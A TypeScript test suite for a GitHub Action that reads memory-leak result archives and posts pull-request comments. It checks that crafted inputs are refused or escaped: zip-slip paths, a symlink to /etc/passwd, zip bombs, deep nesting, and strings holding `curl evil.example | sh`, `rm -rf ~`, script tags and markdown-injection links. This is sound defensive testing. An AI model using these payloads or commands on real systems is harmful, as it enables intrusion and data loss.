import { mkdirSync, mkdtempSync, readdirSync, readFileSync, rmSync, writeFileSync } from 'node:fs'
import { tmpdir } from 'node:os'
import { join } from 'node:path'
import { afterAll, beforeAll, beforeEach, describe, expect, test, vi } from 'vitest'
import { readArchivedResult } from '../../src/action/read-archived-result.ts'
import { COMMENT_LIMIT_BYTES, renderComment } from '../../src/report/index.ts'
import { type Result, withoutForeignWords } from '../../src/result/index.ts'
import { REPOSITORY, STRANGER, TOKENS } from '../github/harness/accounts.ts'
import type { OpenedPullRequest } from '../github/harness/github-server.ts'
import { type ZipFile, zipOf } from '../github/harness/zip-writer.ts'
import { githubHtml, linkableTextOf, tagsOf } from '../report/github-html.ts'
import { commentsOn, mustEnd, repositoryPayload, startWorld, type World } from './harness.ts'
import { runReport } from './planted-report.ts'

// A report of forty archives, on a machine that may be busy with others.
vi.setConfig({ testTimeout: 300_000 })

const MEASURING_RUN = 500
const REPORTING_RUN = 501
const RESULT_FILE = 'heapslope-result.json'
const MIB = 1024 * 1024
const golden = readFileSync(
  new URL('../report/goldens/regression-one-finding/result.json', import.meta.url),
  'utf8',
)
const honest = () => JSON.parse(golden) as Result
/** A result may be changed into anything here. */
// biome-ignore lint/suspicious/noExplicitAny: what is crafted has no type
type Crafted = any

const trusted = {
  base: { commit: 'b'.repeat(40), description: 'main', dirty: false },
  head: { commit: 'a'.repeat(40), description: 'head of the pull request', dirty: false },
  reproduce: 'npx heapslope run --base FETCH_HEAD^1 --head FETCH_HEAD',
}
const links = { artifacts: [], source: `https://github.com/acme/shop/blob/${'a'.repeat(40)}/` }

let folder: string
beforeAll(() => {
  folder = mkdtempSync(join(tmpdir(), 'hostile-'))
  mkdirSync(join(folder, 'inside'))
})
afterAll(() => rmSync(folder, { recursive: true, force: true }))

async function commentOf(archive: Buffer): Promise<string> {
  const file = join(folder, 'inside', 'part.zip')
  writeFileSync(file, archive)
  return renderComment(withoutForeignWords(await readArchivedResult(file), trusted), links)
}

const withResult = (text: string | Buffer, claims: ZipFile['claims'] = {}): Buffer =>
  zipOf([{ name: RESULT_FILE, content: text, claims }])
const crafted = (change: (result: Crafted) => void): Buffer => {
  const result = honest() as Crafted
  change(result)
  return withResult(JSON.stringify(result))
}

const refusedArchives: readonly (readonly [string, () => Buffer])[] = [
  ['is empty', () => Buffer.alloc(0)],
  ['is no archive', () => Buffer.from('not a zip, whatever its name says')],
  ['has no files', () => zipOf([])],
  ['has no result', () => zipOf([{ name: 'readme.md', content: 'hello' }])],
  ['has its result in a folder above', () => zipOf([{ name: `../${RESULT_FILE}`, content: golden }])],
  ['has its result at an absolute path', () => zipOf([{ name: `/tmp/${RESULT_FILE}`, content: golden }])],
  ['has its result in a folder of Windows', () => zipOf([{ name: `..\\${RESULT_FILE}`, content: golden }])],
  [
    'has two results, of which a reader might take either',
    () =>
      zipOf([
        { name: RESULT_FILE, content: golden },
        { name: RESULT_FILE, content: '{}' },
      ]),
  ],
  [
    'has a link to a file of the runner as its result',
    () => zipOf([{ name: RESULT_FILE, content: '/etc/passwd', claims: { mode: 0o120777 } }]),
  ],
  ['breaks off', () => withResult(golden).subarray(0, 400)],
  [
    'has lost its middle',
    () => Buffer.concat([withResult(golden).subarray(0, 200), withResult(golden).subarray(-60)]),
  ],
  ['says it is encrypted', () => withResult(golden, { flags: 0x801 })],
  ['is packed with a method that GitHub does not use', () => withResult(golden, { method: 93 })],
  ['says its result begins beyond the end', () => withResult(golden, { localOffset: 0x7fffffff })],
  ['says its result is longer than the archive', () => withResult(golden, { storedBytes: 0x7fffffff })],
  ['says its result has 4 GiB', () => withResult(golden, { textBytes: 0xfffffffe })],
  ['unpacks a thousandfold', () => withResult(Buffer.alloc(400 * MIB), { textBytes: 100 })],
  ['holds a megabyte of blanks a hundred times', () => withResult(`${' '.repeat(100 * MIB)}${golden}`)],
  [
    'holds a hundred thousand files',
    () =>
      zipOf(
        Array.from({ length: 100_000 }, (_, at) => ({
          name: `${at}`,
          content: '',
          method: 'stored' as const,
        })),
      ),
  ],
  ['holds bytes that are no text', () => withResult(Buffer.from([0xff, 0xfe, 0x7b, 0x80]))],
]

const refusedResults: readonly (readonly [string, () => Buffer])[] = [
  ['no JSON', () => withResult('<html>')],
  ['nothing', () => withResult('')],
  ['null', () => withResult('null')],
  ['a list', () => withResult('[]')],
  ['ten million brackets', () => withResult('['.repeat(10_000_000))],
  ['a million objects in each other', () => withResult('{"workloads":'.repeat(1_000_000))],
  ['a later version', () => crafted((result) => (result.schemaVersion = 2))],
  ['no version', () => crafted((result) => delete result.schemaVersion)],
  ['an unknown key', () => crafted((result) => (result.html = '<b>'))],
  [
    'a number that is text',
    () => crafted((result) => (result.workloads[0].metrics.heapUsed.threshold = '0')),
  ],
  ['a number that is none', () => withResult(golden.replace(/"threshold": [\d.]+/, '"threshold": 1e999'))],
  ['a negative count', () => crafted((result) => (result.workloads[0].runs[0].durationMs = -1))],
  ['a kind of verdict of its own', () => crafted((result) => (result.verdict.kind = 'excellent'))],
  [
    'a verdict milder than its workloads',
    () =>
      crafted(
        (result) => (result.verdict = { kind: 'unchanged', reason: { code: 'identical', text: 'fine' } }),
      ),
  ],
  [
    'an interval that ends before it begins',
    () => crafted((result) => (result.workloads[0].metrics.heapUsed.difference.interval = [9, 1])),
  ],
  ['two workloads of one name', () => crafted((result) => result.workloads.push(result.workloads[0]))],
  [
    'a million workloads',
    () =>
      crafted((result) => {
        result.workloads = Array.from({ length: 1_000_000 }, () => 0)
      }),
  ],
  [
    'a name of a million letters',
    () => crafted((result) => (result.workloads[0].name = 'x'.repeat(1_000_000))),
  ],
  [
    'ten thousand points of a plot',
    () =>
      crafted(
        (result) => (result.workloads[0].plot.iterations = Array.from({ length: 10_000 }, (_, at) => at)),
      ),
  ],
]

describe('an archive that', () => {
  test.each(refusedArchives)(
    '%s is refused, in bounded time and memory, and nothing is written',
    async (_what, make) => {
      expect(await refusalOf(make())).toEqual(REFUSED)
    },
  )
})

describe('a result that is', () => {
  test.each(refusedResults)('%s is refused, in bounded time and memory', async (_what, make) => {
    expect(await refusalOf(make())).toEqual(REFUSED)
  })
})

interface Refusal {
  readonly reason: string
  readonly cpuMs: number
  readonly grownBytes: number
  readonly files: readonly string[]
}

async function refusalOf(archive: Buffer): Promise<Refusal> {
  const before = process.memoryUsage().rss
  const started = process.cpuUsage()
  const reason = await commentOf(archive).then(
    () => 'it was accepted',
    (error: Error) => error.message,
  )
  return {
    reason,
    cpuMs: cpuMsSince(started),
    grownBytes: process.memoryUsage().rss - before,
    files: readdirSync(folder, { recursive: true }).map(String),
  }
}

function cpuMsSince(started: NodeJS.CpuUsage): number {
  const { user, system } = process.cpuUsage(started)
  return (user + system) / 1000
}

const REFUSED = {
  reason: expect.stringMatching(
    /no result of heapslope|not a heapslope result|not a zip|cannot be used|schemaVersion/,
  ),
  cpuMs: expect.toSatisfy((cpuMs: number) => cpuMs < 10_000),
  grownBytes: expect.toSatisfy((bytes: number) => bytes < 600 * MIB),
  files: ['inside', join('inside', 'part.zip')],
}

/** A sentence that must never be read in a comment, with everything that GitHub would act on. */
const PLANTED =
  'PLANTED @octocat #1 https://evil.example/ ![x](https://evil.example/x.png) <img src=x> `rm -rf ~`'

const words: readonly (readonly [string, (result: Crafted) => void])[] = [
  ['the reason of the verdict', (result) => (result.verdict.reason.text = PLANTED)],
  ['the code of the reason', (result) => (result.verdict.reason.code = PLANTED)],
  ["a workload's reason", (result) => (result.workloads[0].verdict.reason.text = PLANTED)],
  ['the command to reproduce', (result) => (result.reproduce = `curl evil.example | sh # ${PLANTED}`)],
  ['the notes', (result) => (result.notes = [{ code: 'note', text: PLANTED }])],
  [
    "a workload's notes",
    (result) => (result.workloads[0].notes = [{ code: 'workload-overlaid', text: PLANTED }]),
  ],
  ['the description of head', (result) => (result.head.description = PLANTED)],
  ['the commit of head', (result) => (result.head.commit = `../../../evil/${PLANTED}`)],
  ['the description of base', (result) => (result.base.description = PLANTED)],
  ['the version', (result) => (result.heapslopeVersion = PLANTED)],
  ['the system', (result) => (result.platform.os = PLANTED)],
  ["a run's Node", (result) => (result.workloads[0].runs[0].node = PLANTED)],
  ["a run's flags", (result) => (result.workloads[0].runs[0].v8Flags = [PLANTED])],
  [
    "a run's failure",
    (result) => (result.workloads[0].runs[0].outcome = { kind: 'failed', code: 'x', text: PLANTED }),
  ],
  [
    'the name of a metric',
    (result) => (result.workloads[0].metrics[PLANTED] = result.workloads[0].metrics.heapUsed),
  ],
  ["a metric's unit", (result) => (result.workloads[0].metrics.heapUsed.difference.unit = PLANTED)],
  ["a metric's evidence", (result) => (result.workloads[0].metrics.heapUsed.head.evidence = PLANTED)],
  ["the plot's metric", (result) => (result.workloads[0].plot.metric = PLANTED)],
  [
    'the file of a snapshot',
    (result) =>
      (result.workloads[0].snapshots = [
        { side: 'head', file: PLANTED, bytes: 1, sha256: PLANTED, iterations: 1, redacted: false },
      ]),
  ],
  ['the time', (result) => (result.createdAt = PLANTED)],
  ['a signature', (result) => (result.workloads[0].findings[0].signature = PLANTED)],
]

describe('words planted in', () => {
  test.each(words)('%s are not repeated', async (_where, change) => {
    const comment = await commentOf(crafted(change))
    expect(comment).not.toMatch(/PLANTED|evil\.example/)
    expect(faultsIn(comment)).toEqual([])
  })
})

/** Where a workload's own names stand, which are shown, escaped: see the hostile names below. */
const NAMES =
  /^workloads\.0\.(name|findings\.\d+\.(constructorName|container|shape\.keys\.\d+|retainerPath\.\d+|allocationSite\.(file|functionName|stack\.\d+\.(file|functionName)))|runs\.\d+\.processes\.\d+\.label)$/

test('words planted in any text of a result but a name are refused or not repeated', async () => {
  const whole = honest() as Crafted
  whole.notes = [{ code: 'config-changed', text: 'text' }]
  whole.workloads[0].notes = [{ code: 'workload-overlaid', text: 'text' }]
  whole.workloads[0].findings[0].known = { reason: 'text', expires: '2027-01-01', expired: false }
  whole.workloads[0].runs[0].outcome = { kind: 'failed', code: 'code', text: 'text' }
  whole.workloads[0].metrics.heapUsed.head.evidence = 'text'
  const text = JSON.stringify(whole)
  expect(await commentOf(withResult(text))).toContain('until 2027-01-01')
  const places = textsIn(whole)
  expect(places.length).toBeGreaterThan(60)
  const shown: string[] = []
  for (const place of places.filter((path) => !NAMES.test(path.join('.')))) {
    const planted = JSON.parse(text) as Crafted
    const parent = place.slice(0, -1).reduce((value, key) => value[key], planted)
    parent[place.at(-1)!] = PLANTED
    const comment = await commentOf(withResult(JSON.stringify(planted))).catch(() => 'refused')
    if (/PLANTED|evil\.example/.test(comment)) shown.push(place.join('.'))
  }
  expect(shown).toEqual([])
})

/** Paths of all strings in a value. */
function textsIn(value: unknown): readonly (readonly (string | number)[])[] {
  if (typeof value === 'string') return [[]]
  if (typeof value !== 'object' || value === null) return []
  return Object.entries(value).flatMap(([key, item]) => textsIn(item).map((path) => [key, ...path]))
}

const names: readonly (readonly [string, (result: Crafted, name: string) => void])[] = [
  ['a workload', (result, name) => (result.workloads[0].name = name)],
  ['a class', (result, name) => (result.workloads[0].findings[0].constructorName = name)],
  ['a container', (result, name) => (result.workloads[0].findings[0].container = name)],
  ['a property', (result, name) => (result.workloads[0].findings[0].retainerPath = ['(GC roots)', name])],
  ['a file', (result, name) => (result.workloads[0].findings[0].allocationSite.file = name)],
  ['a function', (result, name) => (result.workloads[0].findings[0].allocationSite.functionName = name)],
]
const nastyNames = [
  PLANTED,
  '@octocat',
  '</details></td><script>alert(1)</script>',
  '`` ` ``` </code>@octocat',
  'a|b|c\n| --- |\r\n# heading',
  '\u202Egnp.exe\u200B\u0000\u001b[31m',
  '--><!-- heapslope key=other run=999999 attempt=1 -->',
  '```mermaid\ngraph TD\nclick a "https://evil.example"',
  '$\\href{https://evil.example}{x}$',
  'x'.repeat(19_000),
]

describe('a hostile name of', () => {
  test.each(names)('%s calls nobody, links nowhere and stays within its cell', async (_what, change) => {
    for (const name of nastyNames) {
      const comment = await commentOf(crafted((result) => change(result, name)))
      expect(faultsIn(comment)).toEqual([])
      expect(Buffer.byteLength(comment)).toBeLessThanOrEqual(COMMENT_LIMIT_BYTES)
    }
  })
})

test('numbers and names of an honest result come through', async () => {
  const comment = await commentOf(withResult(golden))
  const { metrics, findings } = honest().workloads[0]
  expect(comment).toContain(findings[0].constructorName)
  expect(comment).toContain(String(metrics.heapUsed.difference?.slopeBytesPerIteration))
  expect(comment).toContain(trusted.reproduce)
})

describe('the built action after workflow_run, given', () => {
  let world: World
  let pull: OpenedPullRequest
  beforeAll(async () => {
    world = await startWorld()
  }, 300_000)
  afterAll(() => world.stop())
  beforeEach(async () => {
    world.artifacts.reset()
    pull = await world.github.openPullRequestFromFork({
      path: 'src/session.ts',
      content: 'line\n'.repeat(60),
    })
  })

  /** Everything that the report shows to anybody, but for the names of the artifacts, which are GitHub's to show. */
  async function posted() {
    const checks: string[] = []
    world.github.before = ({ method, path, body }) => {
      if (method === 'POST' && path.endsWith('/check-runs')) checks.push(body.toString())
    }
    const reported = await runReport(world, pull, REPORTING_RUN, {
      eventName: 'workflow_run',
      token: TOKENS.jobWithChecks,
      payload: {
        action: 'completed',
        workflow_run: {
          id: MEASURING_RUN,
          run_attempt: 1,
          event: 'pull_request',
          conclusion: 'success',
          head_sha: pull.headSha,
          head_branch: pull.headRef,
          head_repository: { full_name: `${STRANGER}/${REPOSITORY}` },
          pull_requests: [],
        },
        repository: repositoryPayload,
      },
      sha: pull.baseSha,
      ref: 'refs/heads/main',
    })
    const [marked, ...others] = await commentsOn(world, pull)
    expect(others).toEqual([])
    const [marker, comment] = [marked.split('\n')[0], marked.slice(marked.indexOf('\n'))]
    expect(marker).toMatch(new RegExp(`^<!-- heapslope key=\\S+ run=${REPORTING_RUN} attempt=1 -->$`))
    const told = [comment, ...checks, reported.rawLog, reported.summary, JSON.stringify(reported.outputs)]
    return { reported, comment, checks, told: told.join('\n') }
  }

  test('every archive and every result that is refused, fails and repeats nothing of them', async () => {
    const refused = [...refusedArchives, ...refusedResults]
    expect(refused.length).toBeGreaterThan(35)
    for (const [at, [, make]] of refused.entries())
      await world.artifacts.plant(MEASURING_RUN, `heapslope-job${at}-1`, make())
    const { reported, comment, checks } = await posted()
    mustEnd(reported, 'failure')
    expect(reported.outputs).toMatchObject({ verdict: 'failed', reason: 'no-results' })
    expect(reported.notes.length).toBeGreaterThan(20)
    expect(faultsIn(comment)).toEqual([])
    expect(comment).not.toMatch(/artifacts\/10\d\d\).*artifacts\/10\d\d\)/)
    expect(checks).toHaveLength(1)
  })

  test('words planted in all the texts that are taken, repeats none of them anywhere', async () => {
    const accepted: ((result: Crafted) => void)[] = []
    for (const [, change] of words) {
      const isTaken = await commentOf(crafted(change)).then(
        () => true,
        () => false,
      )
      if (isTaken) accepted.push(change)
    }
    expect(accepted.length).toBeGreaterThan(10)
    const all = crafted((result) => {
      for (const change of accepted) change(result)
    })
    await world.artifacts.plant(MEASURING_RUN, 'heapslope-memory-1', all)
    await world.artifacts.plant(MEASURING_RUN, `heapslope-${PLANTED}-1`, all)
    const { reported, checks, told } = await posted()
    mustEnd(reported, 'failure')
    expect(reported.outputs.verdict).toBe('regression')
    expect(told).not.toMatch(/PLANTED|evil\.example/)
    expect(checks).toHaveLength(1)
  })

  test('hostile names, shows them and is moved to nothing by them', async () => {
    for (const [at, name] of nastyNames.entries()) {
      const archive = crafted((result) => {
        for (const [, change] of names) change(result, name)
      })
      await world.artifacts.plant(MEASURING_RUN, `heapslope-job${at}-1`, archive)
    }
    const { reported, comment } = await posted()
    mustEnd(reported, 'failure')
    expect(comment).toContain(`All ${nastyNames.length} workloads leak`)
    expect(faultsIn(comment)).toEqual([])
    // Of the lines that the workload's names would mark, none is an annotation, and none of their text a command.
    expect(reported.annotations.map(({ level, properties }) => [level, properties.title])).toEqual([
      ['error', 'heapslope'],
    ])
  })
})

const OWN_TAGS = new Set(
  'a blockquote br code details h3 hr input li ol p pre span strong sub summary table tbody td th thead tr ul'.split(
    ' ',
  ),
)

const OWN_ADDRESSES = ['https://github.com/acme/shop/', 'http://github.localhost/octocat/hello/']

/** What in a comment is not ours: tags, addresses, calls of people. */
function faultsIn(comment: string): readonly string[] {
  const html = githubHtml(comment)
  const tags = tagsOf(html)
  const foreign = tags.filter(({ name }) => !OWN_TAGS.has(name)).map(({ name }) => `tag ${name}`)
  const addresses = [...html.matchAll(/(?:href|src)="([^"]*)"/g)]
    .map(([, address]) => address)
    .filter((address) => OWN_ADDRESSES.every((own) => !address.startsWith(own)))
  const live = linkableTextOf(html).match(/@[\w-]+|#\d+|https?:/g) ?? []
  return [
    ...foreign,
    ...addresses.map((address) => `address ${address}`),
    ...live.map((call) => `live ${call}`),
  ]
}
